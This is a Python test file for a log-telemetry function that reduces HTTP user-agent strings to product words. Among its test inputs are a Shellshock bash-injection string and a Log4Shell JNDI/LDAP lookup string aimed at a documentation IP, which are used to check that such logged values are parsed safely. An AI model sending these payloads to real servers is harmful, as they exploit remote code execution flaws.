"""User agents to product words."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from loglm_bridge.telemetry.canonical.network.user_agents import user_agent
from tests.telemetry.parsing import assert_linear, few_examples


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("curl/8.1.2", "curl"),
        ("python-requests/2.31.0", "python-requests"),
        ("aws-cli/2.13.5 Python/3.11.4 Linux/5.15 exe/x86_64 prompt/off", "aws-cli python linux exe prompt off"),
        (
            "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0",
            "mozilla x11 linux rv:{n}.0 firefox",
        ),
        ("sqlmap/1.7 (https://sqlmap.org)", "sqlmap"),
        ("bot (+http://acme.example/bot.html)", "bot"),
        ("bot (ops@acme.example)", "bot"),
        ("agent 203.0.113.9 run", "agent run"),
        ("() { :; }; /bin/bash -c 'id 203.0.113.9'", "() { :; }; /bin/bash -c 'id {ip}'"),
        ("${jndi:ldap://203.0.113.9:1389/a}", "${jndi:ldap://{ip}:{n}/a}"),
        ("x" * 40, ""),
        ("-", ""),
        ("", ""),
    ],
)
def test_user_agent(value, expected):
    assert user_agent(value) == expected


@few_examples
@given(
    st.lists(st.from_regex(r"[a-z]{4,9}", fullmatch=True), min_size=1, max_size=6, unique=True),
    st.from_regex(r"[0-9]{1,2}\.[0-9]{1,3}(\.[0-9]{1,4})?", fullmatch=True),
)
def test_versions_make_no_difference(products, version):
    noise = {"like", "gecko", "khtml", "compatible"}
    expected = " ".join(product for product in products if product not in noise)
    assert user_agent(" ".join(f"{product}/{version}" for product in products)) == expected


def test_a_log_cannot_forge_a_placeholder():
    assert "{private}" not in user_agent("{private}")
    assert "{ip}" not in user_agent("'{ip}'")


@few_examples
@given(st.text(max_size=300))
def test_any_text_gives_few_words(value):
    assert len(user_agent(value)) <= 20 * 40


@pytest.mark.parametrize("unit", ["a ", "(", "http://a ", "a@b ", "1.", "a/1 "])
def test_reading_takes_linear_time(unit):
    assert_linear(user_agent, unit)
